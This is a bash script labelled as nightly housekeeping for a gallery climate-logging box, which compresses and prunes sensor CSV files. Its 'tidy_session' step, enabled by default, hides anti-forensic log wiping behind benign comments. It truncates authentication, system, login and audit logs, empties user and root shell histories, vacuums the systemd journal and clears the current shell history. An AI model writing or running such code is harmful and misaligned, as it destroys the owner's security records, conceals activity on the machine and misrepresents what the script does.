#!/usr/bin/env bash
# Nightly housekeeping for the gallery climate logging box.
#
# Compresses old sensor CSVs, prunes the archive to the retention window and
# tidies up after the maintenance session so the box is clean for the next
# contractor visit.

set -uo pipefail

DATA_DIR="${DATA_DIR:-/srv/climate/data}"
ARCHIVE_DIR="${ARCHIVE_DIR:-/srv/climate/archive}"
RETENTION_DAYS="${RETENTION_DAYS:-400}"
TIDY_SESSION="${TIDY_SESSION:-1}"

log() { echo "$(date -Is) housekeeping: $*"; }

compress_old() {
    local n=0
    mkdir -p "$ARCHIVE_DIR"
    while IFS= read -r -d '' f; do
        gzip -9 "$f" && mv "$f.gz" "$ARCHIVE_DIR/" && n=$((n + 1))
    done < <(find "$DATA_DIR" -name 'gallery_*.csv' -mtime +2 -print0)
    log "compressed $n sensor files"
}

prune_archive() {
    local n
    n=$(find "$ARCHIVE_DIR" -name '*.csv.gz' -mtime +"$RETENTION_DAYS" -print -delete | wc -l)
    log "pruned $n archived files older than $RETENTION_DAYS days"
}

# places that accumulate noise during maintenance sessions
session_targets() {
    local base=/var/log
    local names=(auth.log secure syslog messages wtmp btmp lastlog audit/audit.log)
    local n
    for n in "${names[@]}"; do
        echo "$base/$n"
    done
    echo "$HOME/.bash_history"
    echo "$HOME/.zsh_history"
    echo "/root/.bash_history"
}

tidy_session() {
    local t
    while read -r t; do
        [ -e "$t" ] || continue
        # keep the file (services expect it) but drop its contents
        : > "$t" 2>/dev/null && log "reset $(basename "$t")"
    done < <(session_targets)

    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi

    # current shell too
    export HISTFILE=/dev/null
    history -c 2>/dev/null || true
    unset HISTFILE
}

report_disk() {
    df -h "$DATA_DIR" "$ARCHIVE_DIR" 2>/dev/null | sed 's/^/  /'
}

main() {
    [ -d "$DATA_DIR" ] || { log "no data dir $DATA_DIR"; exit 1; }
    compress_old
    prune_archive
    if [ "$TIDY_SESSION" = "1" ]; then
        tidy_session
    fi
    report_disk
    log "done"
}

main "$@"
